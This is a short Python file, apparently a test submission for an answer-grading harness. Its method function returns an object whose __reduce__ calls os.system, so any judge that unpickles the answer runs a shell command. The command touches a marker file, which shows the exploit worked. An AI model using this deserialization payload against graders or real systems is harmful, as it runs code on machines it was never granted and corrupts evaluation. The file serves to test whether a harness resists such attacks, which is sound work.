"""Wants its answer to be unpickled by whoever judges it. Success: a file that only the unpickling makes."""

import os

from outside import HOME, MARK


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {HOME}/{MARK}",)


def method(problem):
    return Payload()
